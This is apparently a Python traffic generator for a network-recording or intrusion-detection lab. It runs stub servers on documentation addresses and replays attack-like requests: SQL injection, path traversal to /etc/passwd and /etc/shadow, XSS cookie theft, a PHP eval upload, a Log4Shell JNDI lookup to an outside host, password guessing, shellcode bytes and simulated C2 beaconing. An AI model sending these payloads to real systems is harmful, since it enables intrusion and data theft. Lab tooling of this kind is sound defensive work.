#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Traffic for the recording lab, standard library only.

    traffic.py serve inside|outside    the servers of one side, until killed
    traffic.py client inside|outside   the clients of one side

Addresses are of the documentation ranges (RFC 5737, RFC 3849)."""
import base64
import http.client
import http.server
import os
import socket
import socketserver
import ssl
import struct
import subprocess
import sys
import threading
import time

WEB, WEB6 = "192.0.2.20", "2001:db8:1::20"     # inside: the web server
PC = "192.0.2.50"                              # inside: somebody's computer
EVIL, EVIL6 = "203.0.113.10", "2001:db8:2::10" # outside: who attacks
C2, DNS = "198.51.100.66", "198.51.100.53"     # outside: what malware talks to
LAB = os.environ.get("LAB", ".")               # keys and certificates

TEST_FILE = b"MZ lab file\r\nHUTONG-LAB-TEST-FILE-THIS-IS-NO-VIRUS\r\n" + b"\0" * 64


class Web(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "lab/1.0"
    sys_version = ""

    def answer(self, status, body=b"ok\n", kind="text/html", **headers):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        length = int(self.headers.get("Content-Length", "0"))
        if length:
            self.rfile.read(length)
        path = self.path.split("?")[0]
        if path == "/private":
            self.answer(401, b"who are you?\n",
                        WWW_Authenticate='Basic realm="lab"')
        elif path == "/broken":
            self.answer(500, b"<pre>Traceback (most recent call last):\n"
                             b'  File "app.py", line 42</pre>\n')
        elif path == "/files/setup.exe":
            self.answer(200, TEST_FILE, "application/octet-stream",
                        Content_Disposition='attachment; filename="setup.exe"')
        elif path == "/old":
            self.answer(302, b"", Location="http://www.example.com/new")
        elif path.endswith(".bak"):
            self.answer(404, b"<html>not here</html>\n")
        else:
            self.answer(200, "<html>你好, 世界</html>\n".encode())

    do_POST = do_GET
    do_HEAD = do_GET

    def log_message(self, *args):
        pass


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def server_bind(self):  # HTTPServer's own looks the name up in the DNS
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]


class Server6(Server):
    address_family = socket.AF_INET6


def forever(server):
    threading.Thread(target=server.serve_forever, daemon=True).start()


def tcp(address, port, script):
    """A line server: script is bytes to say first and for each line read."""
    class Handler(socketserver.StreamRequestHandler):
        def handle(self):
            try:
                self.wfile.write(script[0])
                for say in script[1:]:
                    if not self.rfile.readline():
                        return
                    self.wfile.write(say)
                while self.rfile.readline():
                    pass
            except OSError:
                pass

    class Lines(socketserver.ThreadingTCPServer):
        allow_reuse_address = True
        daemon_threads = True

    forever(Lines((address, port), Handler))


class Smtp(socketserver.StreamRequestHandler):
    def handle(self):
        say = lambda text: self.wfile.write(text + b"\r\n")
        say(b"220 mail.example.com ESMTP")
        data = False
        while True:
            line = self.rfile.readline()
            if not line:
                return
            word = line[:4].upper()
            if data:
                if line == b".\r\n":
                    data = False
                    say(b"250 queued")
            elif word == b"DATA":
                data = True
                say(b"354 go on")
            elif word == b"QUIT":
                say(b"221 bye")
                return
            else:
                say(b"250 ok")


def dns_server(address):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, 53))

    def loop():
        while True:
            query, peer = s.recvfrom(2048)
            name_end = query.index(b"\0", 12) + 5
            if b"nosuch" in query:
                s.sendto(query[:2] + b"\x81\x83\0\1\0\0\0\0\0\0" +
                         query[12:name_end], peer)
                continue
            s.sendto(query[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" +
                     query[12:name_end] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" +
                     socket.inet_aton(C2), peer)
    threading.Thread(target=loop, daemon=True).start()


def tls_server(address, cert):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.maximum_version = ssl.TLSVersion.TLSv1_2  # the certificate shows
    context.load_cert_chain(f"{LAB}/{cert}.pem", f"{LAB}/{cert}.key")
    server = Server((address, 443), Web)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    forever(server)


def serve(side):
    if side == "inside":
        for port in (80, 8080, 8443):
            forever(Server((WEB, port), Web))
        forever(Server6((WEB6, 80), Web))
        tcp(WEB, 21, [b"220 lab ftp\r\n", b"331 name ok\r\n", b"230 in\r\n",
                      b"221 bye\r\n"])
        tcp(WEB, 9999, [b"ready\r\n"])
        smtp = socketserver.ThreadingTCPServer((WEB, 25), Smtp)
        forever(smtp)
        subprocess.Popen(["/usr/sbin/sshd", "-D", "-e", "-f", "/dev/null",
                          "-h", f"{LAB}/host_key", "-o", "UsePAM=no",
                          "-o", "PidFile=none", "-o", f"ListenAddress={WEB}"],
                         stderr=subprocess.DEVNULL)
    else:
        forever(Server((C2, 80), Web))
        tls_server(C2, "untrusted")
        dns_server(DNS)
        tcp(C2, 3333, [b"", b'{"id":1,"result":[],"error":null}\n'])
        tcp(C2, 4444, [b"$ "])
        tcp(C2, 7000, [b"", b"HI\r\n"])
    open(f"{LAB}/ready-{side}", "w").close()
    while True:
        time.sleep(3600)


def connect(source, target, port, timeout=5):
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((source, 0))
    s.connect((target, port))
    return s


def web(source, target, requests, port=80, host="www.example.com"):
    """(method, path, headers, body) on one connection."""
    c = http.client.HTTPConnection(target, port, timeout=5,
                                   source_address=(source, 0))
    for method, path, headers, body in requests:
        c.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        c.putheader("Host", host)
        headers = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", **headers}
        for name, value in headers.items():
            c.putheader(name, value)
        if body:
            c.putheader("Content-Length", str(len(body)))
        c.endheaders(body)
        try:
            c.getresponse().read()
        except (http.client.HTTPException, OSError):
            pass
    c.close()


def get(path, **headers):
    return ("GET", path, {k.replace("_", "-"): v for k, v in headers.items()},
            None)


def dns(source, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((source, 0))
    s.settimeout(2)
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    s.sendto(struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels +
             b"\0\0\1\0\1", (DNS, 53))
    s.recv(2048)


def raw_web(source, target, data):
    s = connect(source, target, 80)
    s.sendall(data)
    s.settimeout(1)
    try:
        while s.recv(4096):
            pass
    except OSError:
        pass
    s.close()


def outside():
    """Who attacks the web server."""
    web(EVIL, WEB, [get("/"), get("/index.html", Referer="http://a.example/")])
    web(EVIL, WEB, [get("/item?id=1%27%20UNION%20SELECT%20user,pw%20FROM%20t--"),
                    get("/item?id=2+union+all+select+1,2,3&sort=%E4%B8%AD%E6%96%87")])
    web(EVIL, WEB, [get("/../../../../etc/passwd"),
                    get("/view?f=..%2f..%2f..%2fetc/passwd",
                        X_Forwarded_For="198.51.100.77, 203.0.113.10")])
    web(EVIL, WEB, [get("/search?q=<script>alert(document.cookie)</script>")])
    body = b"file=%3C%3Fphp+" + b"eval(base64_decode('cGhwaW5mbygpOw=='));"
    web(EVIL, WEB, [("POST", "/upload.php",
                     {"Content-Type": "application/x-www-form-urlencoded",
                      "Cookie": "session=0123456789abcdef"}, body)])
    web(EVIL, WEB, [get("/", X_Api_Version="${jndi:ldap://203.0.113.10:1389/a}")])
    web(EVIL, WEB, [get("/ping?cmd=127.0.0.1;cat%20/etc/shadow")], 8080)
    web(EVIL, WEB, [get("/?id=1", User_Agent="sqlmap/1.7.2#stable (https://sqlmap.org)")])
    web(EVIL, WEB, [get("/db/site.sql.bak"), get("/broken")])
    web(EVIL, WEB, [get("/login?user=root"), get("/admin/users")])
    for n in range(4):
        web(EVIL, WEB, [get("/private", Authorization="Basic " +
                            base64.b64encode(b"admin:guess%d" % n).decode())])
    web(EVIL, WEB, [get("/cgi-bin/test.cgi")])
    web(EVIL, WEB, [("HEAD", "/old", {}, None)])
    web(EVIL6, WEB6, [get("/v6?id=1 union select".replace(" ", "%20")),
                      get("/cgi-bin/v6")], host="[2001:db8:1::20]")
    # What no browser sends: bytes that are no UTF-8, a NUL, GBK, broken syntax.
    raw_web(EVIL, WEB, b"GET /union?\xff\xfe\xd6\xd0\xce\xc4+select HTTP/1.1\r\n"
                       b"Host: www.example.com\r\nUser-Agent: \x01\x02\"\\\x7f\r\n"
                       b"Connection: close\r\n\r\n")
    raw_web(EVIL, WEB, b"GET  /a HTTP/9.9\r\nHost: a\r\nHost: b\r\n"
                       b"Content-Length: x\r\n\r\n")
    for _ in range(6):
        subprocess.run(["ssh", "-F", "/dev/null", "-b", EVIL, "-o",
                        "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
                        "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
                        f"root@{WEB}", "true"], stderr=subprocess.DEVNULL,
                       check=False)
    s = connect(EVIL, WEB, 21)
    for line in (b"USER anonymous\r\n", b"PASS guest@example.com\r\n", b"QUIT\r\n"):
        s.recv(256)
        s.sendall(line)
    s.recv(256)
    s.close()
    mail()
    s = connect(EVIL, WEB, 9999)
    s.sendall(b"\x90" * 64 + b"\x31\xc0\x50\x68//sh\n")
    s.close()
    for port in range(100, 116):
        try:
            connect(EVIL, WEB, port, 0.2).close()
        except OSError:
            pass
    web(EVIL, WEB, [get("/")], 8443)
    subprocess.run(["ping", "-c", "2", "-i", "0.2", "-I", EVIL, WEB], check=False,
                   stdout=subprocess.DEVNULL)
    subprocess.run(["ping", "-c", "1", "-s", "1200", "-I", EVIL, WEB],
                   check=False, stdout=subprocess.DEVNULL)
    subprocess.run(["ping", "-6", "-c", "2", "-i", "0.2", "-I", EVIL6, WEB6],
                   check=False, stdout=subprocess.DEVNULL)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((EVIL, 0))
    for n in range(250):
        u.sendto(b"flood", (WEB, 5000))


def mail():
    s = connect(EVIL, WEB, 25)
    part = base64.b64encode(TEST_FILE)
    lines = [b"EHLO mail.example.net\r\n", b"MAIL FROM:<a@example.net>\r\n",
             b"RCPT TO:<b@example.com>\r\n", b"DATA\r\n",
             b"From: a@example.net\r\nTo: b@example.com\r\n"
             b"Subject: =?utf-8?b?5Y+R56Wo?=\r\nMIME-Version: 1.0\r\n"
             b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
             b"Content-Type: text/plain\r\n\r\nhttp://blocked.example.org/a\r\n"
             b"--x\r\nContent-Type: application/octet-stream\r\n"
             b"Content-Disposition: attachment; filename=\"invoice.exe\"\r\n"
             b"Content-Transfer-Encoding: base64\r\n\r\n" + part +
             b"\r\n--x--\r\n.\r\n", b"QUIT\r\n"]
    for line in lines:
        s.recv(512)
        s.sendall(line)
    s.recv(512)
    s.close()


def inside():
    """What a computer inside does that it should not."""
    dns(PC, "www.example.com")
    dns(PC, "update.c2.example.net")
    dns(PC, "nosuch.example.com")
    dns(PC, "a" * 20 + "0123456789" * 3 + ".t.example.net")
    for n in range(3):
        web(PC, C2, [("POST", f"/gate.php?id={n:08x}",
                      {"User-Agent": "Mozilla/4.0 (compatible; beacon 2)"},
                      b"\x00\x01\x02 secret data")], host="c2.example.net")
    web(PC, C2, [get("/files/setup.exe")], host="files.example.net")
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    for name in ("blocked.example.org", "www.example.org"):
        s = context.wrap_socket(connect(PC, C2, 443), server_hostname=name)
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        s.recv(1024)
        s.close()
    for port, text in ((3333, b'{"id":1,"method":"mining.subscribe","params":[]}\n'),
                       (4444, b"id\n"), (7000, b"HELLO\r\n")):
        s = connect(PC, C2, port)
        s.sendall(text)
        s.settimeout(1)
        try:
            s.recv(256)
        except OSError:
            pass
        s.close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((PC, 0))
    u.sendto(b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n\r\n",
             (C2, 1900))


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        serve(sys.argv[2])
    elif sys.argv[2] == "inside":
        inside()
    else:
        outside()
